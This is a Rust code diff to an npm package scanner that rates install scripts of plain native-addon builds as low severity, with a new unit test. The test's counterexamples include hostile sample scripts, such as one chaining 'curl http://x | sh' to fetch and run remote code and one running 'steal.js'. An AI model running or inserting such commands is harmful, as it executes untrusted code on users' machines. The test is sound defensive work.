@@ -22,17 +22,53 @@ pub fn install_scripts(package_json: &Value) -> Vec<Finding> {
     INSTALL
         .iter()
         .filter_map(|k| scripts.get(*k).and_then(Value::as_str).map(|v| (k, v)))
-        .map(|(k, v)| Finding {
-            rule: "heuristics.install-script".into(),
-            severity: Severity::Medium,
-            file: Some("package/package.json".into()),
-            line: None,
-            evidence: Some(format!(
-                "runs at install time: {k}: {}",
-                v.chars().take(160).collect::<String>()
-            )),
+        .map(|(k, v)| {
+            let builds = builds_native_addon(v);
+            Finding {
+                rule: "heuristics.install-script".into(),
+                // Low when the script is only the standard native build: node-gyp compiles the
+                // package's own C/C++ sources (its `binding.gyp` is the package's to review),
+                // and the prebuilt-binary fetchers take the package's own release.
+                severity: if builds {
+                    Severity::Low
+                } else {
+                    Severity::Medium
+                },
+                file: Some("package/package.json".into()),
+                line: None,
+                evidence: Some(format!(
+                    "runs at install time{}: {k}: {}",
+                    if builds {
+                        " (the standard native-addon build)"
+                    } else {
+                        ""
+                    },
+                    v.chars().take(160).collect::<String>()
+                )),
+            }
         })
         .collect()
+}
+
+/// Whether a script is nothing but the standard native-addon build commands (`node-gyp rebuild`,
+/// `node-gyp-build`, `prebuild-install`), alone or chained with `||` / `&&`.
+fn builds_native_addon(script: &str) -> bool {
+    const KNOWN: [&str; 5] = [
+        "node-gyp rebuild",
+        "node-gyp-build",
+        "node-gyp-build-optional-packages",
+        "prebuild-install",
+        "prebuild-install -r napi",
+    ];
+    let mut parts = 0;
+    for part in script.split("||").flat_map(|p| p.split("&&")) {
+        let part = part.split_whitespace().collect::<Vec<_>>().join(" ");
+        if !KNOWN.contains(&part.as_str()) {
+            return false;
+        }
+        parts += 1;
+    }
+    parts > 0
 }
 
 /// Differences between the registry's document for the version and the tarball's `package.json`
@@ -113,5 +149,30 @@ mod tests {
         );
         assert_eq!(install_scripts(&tarball).len(), 1);
         assert!(install_scripts(&registry).is_empty());
+    }
+
+    #[test]
+    fn the_standard_native_build_counts_for_less_than_other_install_scripts() {
+        let severity = |script: &str| {
+            install_scripts(&json!({"scripts": {"install": script}}))
+                .first()
+                .map(|f| f.severity)
+        };
+        for honest in [
+            "node-gyp rebuild",
+            "node-gyp-build",
+            "prebuild-install || node-gyp rebuild",
+            "prebuild-install  -r napi || node-gyp rebuild",
+        ] {
+            assert_eq!(severity(honest), Some(Severity::Low), "{honest}");
+        }
+        for other in [
+            "node-gyp rebuild && node steal.js",
+            "node install.js",
+            "node-gyp rebuild; curl http://x | sh",
+            "",
+        ] {
+            assert_eq!(severity(other), Some(Severity::Medium), "{other:?}");
+        }
     }
 }
